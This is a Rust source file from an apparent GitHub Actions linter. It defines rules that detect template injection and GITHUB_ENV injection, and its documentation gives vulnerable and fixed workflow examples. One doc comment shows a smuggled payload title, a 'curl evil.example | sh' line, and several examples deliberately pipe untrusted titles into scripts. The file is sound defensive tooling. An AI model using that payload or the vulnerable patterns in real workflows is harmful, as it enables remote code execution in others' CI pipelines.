//! Other people's text where code is expected: in scripts, and in the files that set variables for later steps.
//!
//! Decided by the contexts that flow into the text and by who writes them under the events of `on:`. It cannot know what a
//! step's output or a variable holds that an earlier step sets while it runs; those give no finding, but for outputs of
//! tabled actions.

use portcullis_core::Fix;
use portcullis_model::actions::{Action, Shell, Step, Usage, Workflow};
use portcullis_syntax::expression::Path;
use portcullis_syntax::shell::{Command, RedirectKind};

use super::writers::{Tracer, Writer};
use super::{ActionsCheck, Scope, fixes};
use crate::rule::prelude::*;

/// The rules of this file.
pub(super) static RULES: &[&Rule] = &[
    &TEMPLATE_INJECTION,
    &TEMPLATE_INJECTION_BY_CALLER,
    &TEMPLATE_INJECTION_BY_COLLABORATOR,
    &EXPRESSION_IN_SCRIPT,
    &GITHUB_ENV_INJECTION,
];

/// Inputs of actions that are run as code.
const SINKS: &[(&str, &[&str])] = &[
    ("8398a7/action-slack", &["custom_payload"]),
    ("actions/github-script", &["script"]),
    ("addnab/docker-run-action", &["options", "run"]),
    ("amadevus/pwsh-script", &["script"]),
    ("appleboy/ssh-action", &["script"]),
    ("azure/cli", &["inlineScript"]),
    ("azure/powershell", &["inlineScript"]),
    ("cardinalby/js-eval-action", &["expression"]),
    ("devorbitus/yq-action-output", &["cmd"]),
    ("gautamkrishnar/blog-post-workflow", &["item_exec"]),
    ("jannekem/run-python-script-action", &["script"]),
    ("mikefarah/yq", &["cmd"]),
    ("sergeysova/jq-action", &["cmd"]),
    ("skitionek/notify-microsoft-teams", &["overwrite"]),
];

rule! {
    /// Text that an attacker chooses becomes code
    ///
    /// `${{ }}` is replaced before the shell, or the action that runs its input as code, sees the script: a title such as
    /// `"; curl evil.example | sh; "` is then part of it. Looks at `run:` and at inputs that actions run, at contexts that
    /// anybody on GitHub may fill in (titles, bodies, names of forks' branches, messages of commits), and follows `env` and
    /// `matrix` to what the file gives them. Silent on numbers, hashes, results of steps, comparisons, literals, values that
    /// cannot be known, and what no event of `on:` carries. What callers or members of the repository choose is told apart:
    /// see `actions-template-injection-by-caller` and `actions-template-injection-by-collaborator`. An input of a reusable
    /// workflow that another workflow of the repository fills with such a context is reported here.
    ///
    /// ```workflow bad:8
    /// on: issues
    /// jobs:
    ///   greet:
    ///     runs-on: ubuntu-latest
    ///     steps:
    ///       - run: |
    ///           echo "${{ github.sha }}"
    ///           echo "${{ github.event.issue.title }}"
    /// ```
    /// ```workflow bad:9
    /// on: pull_request
    /// env:
    ///   BRANCH: ${{ github.head_ref }}
    /// jobs:
    ///   greet:
    ///     runs-on: ubuntu-latest
    ///     steps:
    ///       - uses: actions/github-script@v7
    ///         with: { script: "console.log('${{ env.BRANCH }}')" }
    /// ```
    /// ```workflow good
    /// on: [pull_request, push]
    /// env: { REGION: us-west-2 }
    /// jobs:
    ///   greet:
    ///     strategy: { matrix: { version: [1, 2] } }
    ///     runs-on: ubuntu-latest
    ///     steps:
    ///       - id: build
    ///         env: { TITLE: "${{ github.event.pull_request.title }}" }
    ///         run: echo "$TITLE"
    ///       - run: echo ${{ github.sha }} ${{ env.REGION }} ${{ matrix.version }} ${{ steps.build.outcome }}
    ///       - run: echo ${{ github.event.pull_request.title == 'x' && 'a' || 'b' }} ${{ github.event.number }}
    /// ```
    /// ```workflow good
    /// # Names of files as JSON are literals of JavaScript.
    /// on: pull_request
    /// jobs:
    ///   list:
    ///     runs-on: ubuntu-latest
    ///     steps:
    ///       - { id: diff, uses: tj-actions/changed-files@v47, with: { json: true } }
    ///       - uses: actions/github-script@v8
    ///         with: { script: "list(${{ steps.diff.outputs.added_files }})" }
    /// ```
    /// ```workflow good
    /// # Members start it, and it carries no issue.
    /// on: { workflow_dispatch: { inputs: { tag: {} } }, push: {} }
    /// jobs:
    ///   greet:
    ///     runs-on: ubuntu-latest
    ///     steps:
    ///       - run: echo ${{ inputs.tag }} ${{ github.ref_name }} ${{ github.event.issue.title }}
    /// ```
    TEMPLATE_INJECTION = "actions-template-injection" {
        check: Check::Actions(ActionsCheck::WorkflowAndAction(
            |workflow, report| in_workflow(workflow, Wanted::By(Writer::Outsider), report),
            |action, report| in_action(action, Wanted::By(Writer::Outsider), report),
        )),
        severity: Severity::High,
        tags: &["cwe-94"],
        peers: &[
            "zizmor:template-injection",
            "checkov:CKV_GHA_2",
            "scorecard:Dangerous-Workflow",
            "poutine:injection",
            "kics:20f14e1a",
            "kics:62ff6823",
        ],
    }
}

rule! {
    /// Input that a caller fills in becomes code
    ///
    /// An action or a reusable workflow gets whatever its caller has: often a branch's name or a title that somebody outside
    /// has chosen, and callers do not expect that an input is run. Looks at `run:` and at inputs that actions run, in actions
    /// and in workflows with `workflow_call`. Silent on booleans and numbers, and on inputs that are handed over in `env`.
    ///
    /// ```action bad:9
    /// name: greet
    /// description: greets
    /// inputs:
    ///   who: { description: whom }
    /// runs:
    ///   using: composite
    ///   steps:
    ///     - shell: bash
    ///       run: echo "${{ inputs.who }}"
    /// ```
    /// ```workflow bad:7
    /// on: { workflow_call: { inputs: { who: { type: string } } } }
    /// jobs:
    ///   greet:
    ///     runs-on: ubuntu-latest
    ///     steps:
    ///       - run: |
    ///           echo "${{ inputs.who }}"
    /// ```
    /// ```workflow good
    /// on: { workflow_call: { inputs: { who: { type: string }, count: { type: number } } } }
    /// jobs:
    ///   greet:
    ///     runs-on: ubuntu-latest
    ///     steps:
    ///       - run: echo "$WHO" ${{ inputs.count }}
    ///         env: { WHO: "${{ inputs.who }}" }
    /// ```
    TEMPLATE_INJECTION_BY_CALLER = "actions-template-injection-by-caller" {
        check: Check::Actions(ActionsCheck::WorkflowAndAction(
            |workflow, report| in_workflow(workflow, Wanted::By(Writer::Caller), report),
            |action, report| in_action(action, Wanted::By(Writer::Caller), report),
        )),
        severity: Severity::Medium,
        confidence: Confidence::Medium,
        tags: &["cwe-94"],
        peers: &["zizmor:template-injection", "poutine:injection"],
    }
}

rule! {
    /// Text that a collaborator chooses becomes code
    ///
    /// Only those who may write to the repository name its branches and tags, start a workflow by hand or publish a release.
    /// They could change the workflow as well, but not always unseen: such a text runs with the secrets of an environment,
    /// without a review. A blank or a quote in it breaks the script, too. Looks at inputs of `workflow_dispatch`, `github.ref`
    /// and `github.base_ref`, labels, releases, deployments and the payload of `repository_dispatch`. Silent on inputs of a
    /// fixed list, and on branches and tags that the filters of `on:` name.
    ///
    /// ```workflow bad:6
    /// on: { workflow_dispatch: { inputs: { tag: { description: what to release } } } }
    /// jobs:
    ///   release:
    ///     runs-on: ubuntu-latest
    ///     steps:
    ///       - run: ./release "${{ inputs.tag }}"
    /// ```
    /// ```workflow bad:6
    /// on: { push: { tags: ["v*"] } }
    /// jobs:
    ///   release:
    ///     runs-on: ubuntu-latest
    ///     steps:
    ///       - run: ./release "${{ github.ref_name }}"
    /// ```
    /// ```workflow good
    /// on:
    ///   push: { branches: [main], tags: ["v[0-9]+.[0-9]+"] }
    ///   pull_request: { branches: [main] }
    ///   workflow_call: { inputs: { sure: { type: boolean } } }
    /// jobs:
    ///   release:
    ///     runs-on: ubuntu-latest
    ///     steps:
    ///       - run: ./release "$GITHUB_REF_NAME" ${{ inputs.sure }}
    /// ```
    /// ```workflow good
    /// on:
    ///   push: { branches: [main], tags: ["v[0-9]+.[0-9]+"] }
    ///   pull_request: { branches: [main] }
    /// jobs:
    ///   release:
    ///     runs-on: ubuntu-latest
    ///     steps:
    ///       - run: ./release "${{ github.ref_name }}" "${{ github.base_ref }}"
    /// ```
    TEMPLATE_INJECTION_BY_COLLABORATOR = "actions-template-injection-by-collaborator" {
        check: Check::Actions(ActionsCheck::WorkflowAndAction(
            |workflow, report| in_workflow(workflow, Wanted::By(Writer::Collaborator), report),
            |action, report| in_action(action, Wanted::By(Writer::Collaborator), report),
        )),
        severity: Severity::Low,
        tags: &["cwe-94"],
        peers: &["zizmor:template-injection"],
    }
}

rule! {
    /// Expression stands in a script
    ///
    /// Nothing says that somebody else chooses its value, but nothing keeps it so, either: the next change of the workflow, or
    /// of an action whose output it is, may. A script that reads its values from the environment has no such places. Looks at
    /// every expression in `run:` and in inputs that actions run which none of the rules about injections reports.
    ///
    /// ```workflow bad:6
    /// on: push
    /// jobs:
    ///   build:
    ///     runs-on: ubuntu-latest
    ///     steps:
    ///       - run: echo ${{ github.sha }}
    /// ```
    /// ```workflow good
    /// on: issues
    /// jobs:
    ///   build:
    ///     runs-on: ubuntu-latest
    ///     steps:
    ///       - run: echo "$GITHUB_SHA" "$SERVER" ${{ format('{0}', github.event.issue.title) }}
    ///         env: { SERVER: "${{ github.server_url }}" }
    /// ```
    EXPRESSION_IN_SCRIPT = "actions-expression-in-script" {
        check: Check::Actions(ActionsCheck::WorkflowAndAction(
            |workflow, report| in_workflow(workflow, Wanted::Rest, report),
            |action, report| in_action(action, Wanted::Rest, report),
        )),
        severity: Severity::Info,
        profile: Profile::All,
        tags: &["cwe-94"],
        peers: &["zizmor:template-injection"],
    }
}

const IN_ENVIRONMENT: &str = "hand it to the step in `env:` and read it as a quoted variable";

/// Which expressions a rule reports.
#[derive(Clone, Copy)]
enum Wanted {
    /// Those with a value that this one writes.
    By(Writer),
    /// Those of which nobody is known to write the value.
    Rest,
}

fn in_workflow(workflow: &Workflow<'_>, wanted: Wanted, report: &mut Report<'_>) {
    let mut tracer = Tracer::default();
    for usage in &workflow.usages {
        if let Some(job) = usage.job.and_then(|index| workflow.jobs.get(index)) {
            in_sink(usage, Scope::Job(workflow, job), wanted, &mut tracer, report);
        }
    }
}

fn in_action(action: &Action<'_>, wanted: Wanted, report: &mut Report<'_>) {
    let mut tracer = Tracer::default();
    for usage in &action.usages {
        in_sink(usage, Scope::Action(action), wanted, &mut tracer, report);
    }
}

fn in_sink(usage: &Usage<'_>, scope: Scope<'_, '_>, wanted: Wanted, tracer: &mut Tracer, report: &mut Report<'_>) {
    let Some(step) = usage.step.and_then(|index| scope.steps().get(index)) else { return };
    let Some(sink) = sink(step, usage.node) else { return };
    let Some(expr) = usage.expr() else { return };
    let mut is_written = false;
    for (source, path) in expr.sources() {
        let Some(found) = tracer.trace(&path, step, scope) else { continue };
        is_written = true;
        if !matches!(wanted, Wanted::By(writer) if writer == found.writer) {
            continue;
        }
        let written = usage.text_of(source);
        let through = if found.path == path.to_string() { String::new() } else { format!(" (`{}`)", found.path) };
        let who = match found.writer {
            Writer::Outsider => "",
            Writer::Caller => ", whatever the caller hands over",
            Writer::Collaborator => ", whatever a collaborator chooses",
        };
        let draft = report.at(usage.place_of(source), format!("`{written}`{through} becomes part of {sink}{who}"));
        draft.confidence(found.confidence).help(match step.run {
            Some(_) => IN_ENVIRONMENT,
            None => "hand it to the step in `env:` and read it from the environment",
        });
        if let Some(fix) = by_environment(usage, &path, step) {
            draft.fix(fix);
        }
    }
    if matches!(wanted, Wanted::Rest) && !is_written {
        let draft = report.at(usage.place_of(expr), format!("`{}` is put into {sink} as text", usage.text_of(expr)));
        draft.help(IN_ENVIRONMENT);
        if let Some(fix) = expr.path().and_then(|path| by_environment(usage, &path, step)) {
            draft.fix(fix);
        }
    }
}

/// Only shells like Bourne's read a variable as the fix writes it.
fn by_environment(usage: &Usage<'_>, path: &Path, step: &Step<'_>) -> Option<Fix> {
    matches!(step.shell, Shell::Bourne(..)).then(|| fixes::by_environment(usage, path, step)).flatten()
}

/// What a scalar of a step is run as, if it is.
fn sink(step: &Step<'_>, node: Node<'_>) -> Option<&'static str> {
    if step.run == Some(node) {
        return Some(if step.shell == Shell::Python { "the Python script" } else { "the script" });
    }
    let uses = step.uses?;
    let (_, inputs) = SINKS.iter().find(|(action, _)| uses.is(action))?;
    inputs.iter().any(|input| step.input(input) == Some(node)).then_some("code that the action runs")
}

rule! {
    /// Data from outside is written to the environment of later steps
    ///
    /// A line in `$GITHUB_ENV` sets any variable of the steps that follow, `LD_PRELOAD` and `NODE_OPTIONS` among them, and one
    /// in `$GITHUB_PATH` replaces their programs. Looks at workflows that outsiders set off with secrets at hand, and at what
    /// scripts write there; a text without variables is fine.
    ///
    /// ```workflow bad:6
    /// on: pull_request_target
    /// jobs:
    ///   label:
    ///     runs-on: ubuntu-latest
    ///     steps:
    ///       - run: echo "TITLE=$TITLE" >> "$GITHUB_ENV"
    ///         env: { TITLE: "${{ github.event.pull_request.title }}" }
    /// ```
    /// ```workflow good
    /// on: pull_request_target
    /// jobs:
    ///   label:
    ///     runs-on: ubuntu-latest
    ///     steps:
    ///       - run: echo "MODE=fast" >> $GITHUB_ENV
    ///       - run: echo "title=$TITLE" >> $GITHUB_OUTPUT
    /// ```
    GITHUB_ENV_INJECTION = "actions-github-env-injection" {
        check: Check::Actions(ActionsCheck::Step(github_env_injection)),
        severity: Severity::High,
        confidence: Confidence::Medium,
        tags: &["cwe-74"],
        peers: &["zizmor:github-env", "kics:github_env_injection"],
    }
}

fn github_env_injection(step: &Step<'_>, scope: Scope<'_, '_>, report: &mut Report<'_>) {
    let Some(workflow) = scope.workflow() else { return };
    let text = step.run.map_or("", Node::text);
    if !text.contains("GITHUB_ENV") && !text.contains("GITHUB_PATH") || workflow.privileged_triggers().next().is_none()
    {
        return;
    }
    let Some(script) = step.script().or_else(|| step.foreign_script()) else { return };
    for (index, command) in script.shell.commands.iter().enumerate() {
        let Some(file) = written_file(command) else { continue };
        let piped = command.pipe.filter(|pipe| pipe.index > 0).map(|pipe| pipe.pipeline);
        let feeds = script.shell.commands.iter().take(index).filter(|other| {
            other.pipe.is_some_and(|pipe| Some(pipe.pipeline) == piped) && other.substitution == command.substitution
        });
        let is_dynamic = match piped {
            Some(_) => feeds.clone().any(is_dynamic),
            None => is_dynamic(command),
        };
        if is_dynamic {
            let spot = (command.span, "environment file");
            report
                .at(spot, format!("what is not known beforehand is written to `{file}`, in a workflow for outsiders"))
                .help("write it to `$GITHUB_OUTPUT`, and hand it to the steps that need it by `env:`");
        }
    }
}

/// The environment file that a command writes to.
fn written_file(command: &Command) -> Option<&'static str> {
    let file = |text: &str| ["GITHUB_ENV", "GITHUB_PATH"].into_iter().find(|name| text.contains(*name));
    let writes = |kind| {
        matches!(kind, RedirectKind::Write | RedirectKind::Append | RedirectKind::WriteBoth | RedirectKind::AppendBoth)
    };
    let mut redirected = command.redirects.iter().filter(|redirect| writes(redirect.kind));
    let redirected = redirected.find_map(|redirect| file(&redirect.target.text));
    redirected.or_else(|| {
        let is_tee = command.is_any(&["tee", "sponge"]);
        command.args.iter().filter(|_| is_tee).find_map(|word| file(&word.text))
    })
}

/// Whether the output of a command is more than a text that stands in the script.
fn is_dynamic(command: &Command) -> bool {
    let heredoc = command.redirects.iter().find_map(|redirect| redirect.heredoc.as_ref());
    match (command.program(), heredoc) {
        (Some("cat"), Some(heredoc)) => !heredoc.quoted && heredoc.body.contains(['$', '`']),
        (Some("echo" | "printf"), _) => {
            // `%NAME%` is a variable to cmd.
            command.args.iter().any(|word| word.has_expansion || word.text.matches('%').count() > 1)
        }
        (None, _) => false,
        (Some(_), _) => true,
    }
}
